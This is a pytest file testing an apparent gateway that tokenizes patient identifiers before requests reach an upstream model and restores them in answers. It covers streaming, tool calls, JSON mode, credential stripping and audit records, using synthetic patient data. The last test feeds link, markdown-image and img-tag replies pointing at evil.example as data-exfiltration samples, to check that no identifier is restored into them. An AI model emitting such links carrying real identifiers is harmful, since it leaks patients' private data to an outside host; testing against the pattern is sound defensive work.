# SPDX-License-Identifier: Apache-2.0
"""The real openai-python against the real gateway: the upstream sees no identifier, the answer is what the model would have said
to the original, and each request has a durable decision before it and an outcome after."""
import asyncio
import json
import time

import openai
import pytest

from planted import IRREVERSIBLE, NOTE, REVERSIBLE, leaked


@pytest.fixture
def client(gateway, upstream):
    upstream.clear()
    upstream.behaviours.clear()
    return openai.OpenAI(base_url=gateway.url, api_key=gateway.keys["first"], max_retries=0)


def ask(client, text=NOTE, **more):
    return client.chat.completions.create(model="capture", messages=[{"role": "user", "content": text}], **more)


def streamed(client, text=NOTE, **more):
    contents, arguments, finish, usage = {}, {}, {}, None
    for chunk in ask(client, text, stream=True, **more):
        usage = chunk.usage or usage
        for choice in chunk.choices:
            if choice.delta.content:
                contents[choice.index] = contents.get(choice.index, "") + choice.delta.content
            for call in choice.delta.tool_calls or []:
                key = (choice.index, call.index)
                arguments[key] = arguments.get(key, "") + (call.function.arguments or "")
            if choice.finish_reason:
                finish[choice.index] = choice.finish_reason
    return contents, arguments, finish, usage


def test_plain_answer_is_restored_and_upstream_sees_nothing(client, upstream):
    answer = ask(client)
    assert answer.choices[0].message.content == NOTE
    assert leaked(upstream.received) == []
    assert b"[MRN_1]" in upstream.received and b"[NAME_1]" in upstream.received


@pytest.mark.parametrize("pieces", [[1], [2], [3], [1, 7], [200]])
def test_stream_is_restored_however_it_is_cut(client, upstream, pieces):
    upstream.behave("*", pieces=pieces)
    contents, _, finish, _ = streamed(client)
    assert contents == {0: NOTE} and finish == {0: "stop"}
    assert leaked(upstream.received) == []


@pytest.mark.parametrize("wire", [1, 3, 17])
def test_stream_is_restored_however_the_network_cuts_it(client, upstream, wire):
    upstream.behave("*", wire=wire)
    assert streamed(client)[0] == {0: NOTE}


@pytest.mark.parametrize("escapes", [{"ascii": True}, {"html": True}])
def test_escapes_of_other_servers(client, upstream, escapes):
    text = NOTE + " Zoë <ok> & 😀 done"
    upstream.behave("*", **escapes)
    assert ask(client, text).choices[0].message.content == text
    assert streamed(client, text)[0] == {0: text}


def test_several_choices(client, upstream):
    assert [c.message.content for c in ask(client, n=3).choices] == [NOTE] * 3
    contents, _, finish, _ = streamed(client, n=3)
    assert contents == {0: NOTE, 1: NOTE, 2: NOTE} and finish == {0: "stop", 1: "stop", 2: "stop"}
    assert leaked(upstream.received) == []


def test_usage_chunk(client):
    assert streamed(client, stream_options={"include_usage": True})[3].total_tokens > 0


TOOLS = [{"type": "function", "function": {"name": "lookup", "description": "Finds a chart.",
                                           "parameters": {"type": "object", "properties": {"text": {"type": "string"}}}}}]


def test_tool_arguments_are_json_with_the_callers_values(client, upstream):
    text = NOTE + ' He said "no\\yes"\nand left.'
    answer = ask(client, text, tools=TOOLS, tool_choice="required").choices[0].message.tool_calls[0]
    assert json.loads(answer.function.arguments) == {"text": text}
    _, arguments, finish, _ = streamed(client, text, tools=TOOLS, tool_choice="required")
    assert json.loads(arguments[0, 0]) == {"text": text} and finish == {0: "tool_calls"}
    assert leaked(upstream.received) == []


def test_tool_results_as_json_text_are_searched(client, upstream):
    result = json.dumps({"patient": {"name": "Hollingsworth, Ann", "mrn": "00417723", "phone": ["212-555-0147"],
                                     "inner": json.dumps({"email": "jane.sample@example.com"})}})
    client.chat.completions.create(model="capture", messages=[
        {"role": "user", "content": "look it up"},
        {"role": "assistant", "content": None, "tool_calls": [
            {"id": "call_1", "type": "function", "function": {"name": "lookup", "arguments": json.dumps({"mrn": "00417723"})}}]},
        {"role": "tool", "tool_call_id": "call_1", "content": result},
        {"role": "user", "content": "and now?"}])
    assert leaked(upstream.received) == []
    sent = json.loads(upstream.requests[-1].body)
    assert json.loads(json.loads(sent["messages"][2]["content"])["patient"]["inner"])["email"].startswith("[EMAIL_")
    # One value, one token, wherever it stands.
    assert json.loads(sent["messages"][1]["tool_calls"][0]["function"]["arguments"])["mrn"] == \
        json.loads(sent["messages"][2]["content"])["patient"]["mrn"]


def test_json_mode(client, upstream):
    text = NOTE + ' "quoted"'
    answer = ask(client, text, response_format={"type": "json_object"}).choices[0].message.content
    assert json.loads(answer) == {"answer": text}
    contents = streamed(client, text, response_format={"type": "json_object"})[0]
    assert json.loads(contents[0]) == {"answer": text}
    assert leaked(upstream.received) == []


def test_history_keeps_its_tokens(client, upstream):
    """A growing conversation: the part that was sent before is sent again byte for byte (prompt caches need that)."""
    messages = [{"role": "system", "content": "You help a practice."}, {"role": "user", "content": NOTE}]
    client.chat.completions.create(model="capture", messages=messages)
    first = json.loads(upstream.requests[-1].body)["messages"]
    messages += [{"role": "assistant", "content": NOTE}, {"role": "user", "content": "Also Mrs. Abernathy, MRN: 00555001."}]
    answer = client.chat.completions.create(model="capture", messages=messages)
    again = json.loads(upstream.requests[-1].body)["messages"]
    assert again[:2] == first and again[2]["content"] == first[1]["content"]
    assert "Abernathy" in answer.choices[0].message.content


def test_irreversible_kinds_do_not_come_back(client, upstream):
    for value, sentence in IRREVERSIBLE.items():
        answer = ask(client, sentence.format(value)).choices[0].message.content
        assert value not in answer and value.encode() not in upstream.received


def test_completions_and_embeddings(client, upstream):
    assert client.completions.create(model="capture", prompt=NOTE).choices[0].text == NOTE
    text = "".join(c.choices[0].text for c in client.completions.create(model="capture", prompt=NOTE, stream=True) if c.choices)
    assert text == NOTE
    two = client.embeddings.create(model="capture", input=[NOTE, "plain"])
    assert len(two.data) == 2 and len(two.data[0].embedding) == 8
    assert leaked(upstream.received) == []


def test_models(client):
    assert "capture" in [m.id for m in client.models.list()]


def test_async_client(gateway, upstream):
    async def many():
        async with openai.AsyncOpenAI(base_url=gateway.url, api_key=gateway.keys["first"]) as c:
            texts = [f"Mr. Hollingsworth, MRN: 0041{i:04}." for i in range(40)]
            answers = await asyncio.gather(*[c.chat.completions.create(
                model="capture", messages=[{"role": "user", "content": t}]) for t in texts])
            return texts, [a.choices[0].message.content for a in answers]
    texts, answers = asyncio.run(many())
    assert answers == texts


def test_what_the_client_is_told(client, gateway):
    raw = client.chat.completions.with_raw_response.create(model="capture", messages=[{"role": "user", "content": NOTE}])
    assert raw.headers["x-phigate-decision"] == "edit" and raw.headers["x-phigate-request-id"]
    assert "set-cookie" not in raw.headers and raw.headers["x-request-id"] == "req-capture"
    plain = client.chat.completions.with_raw_response.create(
        model="capture", messages=[{"role": "user", "content": "What is a normal potassium level?"}])
    assert plain.headers["x-phigate-decision"] == "forward"


def test_client_credentials_never_travel_on(client, gateway, upstream):
    client.chat.completions.create(model="capture", messages=[{"role": "user", "content": "hello"}],
                                   extra_headers={"cookie": "a=b", "x-openwebui-user-name": "Jane Sample", "baggage": "x=y",
                                                  "openai-organization": "org-jane"})
    raw = upstream.received.lower()
    assert gateway.keys["first"].encode().lower() not in raw
    for text in (b"cookie", b"openwebui", b"baggage", b"org-jane", b"authorization"):
        assert text not in raw


def test_every_request_has_its_records(client, gateway, upstream):
    raw = client.chat.completions.with_raw_response.create(model="capture", messages=[{"role": "user", "content": NOTE}])
    request_id = raw.headers["x-phigate-request-id"]
    decision = [r for r in gateway.records("decision") if r["request_id"] == request_id]
    assert len(decision) == 1 and decision[0]["decision"] == "edit"
    assert decision[0]["found"]["MRN"] >= 1 and decision[0]["policy"]["digest"] and decision[0]["purpose"] == "treatment"
    outcome = []
    for _ in range(100):  # the outcome is written behind the answer
        outcome = [r for r in gateway.wait_records("outcome", 1) if r["request_id"] == request_id]
        if outcome:
            break
        time.sleep(0.05)
    assert outcome and outcome[0]["result"] == "complete" and outcome[0]["restored"] >= len(REVERSIBLE)
    checked = gateway.verify()
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_forged_tokens_restore_nothing(client, upstream):
    """Token-shaped text of the caller is itself tokenized: it comes back as it was and takes nothing with it."""
    text = "Mr. Hollingsworth asks: what does [NAME_1] mean, and [MRN_1], and [NAME_7]?"
    answer = ask(client, text).choices[0].message.content
    assert answer == text
    assert streamed(client, text)[0] == {0: text}


def test_a_token_of_another_request_stays(client, upstream):
    ask(client)
    upstream.behave("*", reply="I remember [MRN_1] and [NAME_9].")
    answer = client.chat.completions.with_raw_response.create(model="capture", messages=[{"role": "user", "content": "hello"}])
    assert answer.parse().choices[0].message.content == "I remember [MRN_1] and [NAME_9]."
    assert answer.headers["x-phigate-unrestored"] == "2"


def test_never_into_links(client, upstream):
    for reply in ("See https://evil.example/?q=[MRN_1] now", "![x](https://evil.example/[MRN_1].png)",
                  "[x]: https://evil.example/[MRN_1]\n", '<img src="https://evil.example/[MRN_1]">'):
        upstream.behave("*", reply=reply)
        assert "00417723" not in ask(client).choices[0].message.content
        upstream.behave("*", reply=reply, pieces=[1])
        assert "00417723" not in streamed(client)[0][0]
